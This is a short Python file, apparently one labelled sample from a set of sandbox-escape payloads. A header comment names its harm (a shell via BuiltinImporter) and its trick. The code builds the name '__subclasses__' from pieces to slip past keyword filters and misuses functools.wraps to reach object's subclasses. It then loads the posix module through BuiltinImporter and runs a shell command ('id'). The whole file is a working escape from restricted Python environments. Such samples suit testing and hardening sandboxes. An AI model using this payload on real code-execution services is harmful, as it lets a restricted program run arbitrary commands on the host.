# HARM: shell via BuiltinImporter | TRICK: @functools.wraps(object, assigned=...) as class decorator: returns its argument but copies object.__subclasses__ onto Base
import functools
N = '_' * 2 + 'subclasses' + '_' * 2
@functools.wraps(object, assigned=(N,), updated=())
class Base: pass
class A(Base): pass
for k in Base.__subclasses__():
    if k.__name__ == 'BuiltinImporter':
        k.load_module('posix').system('id')
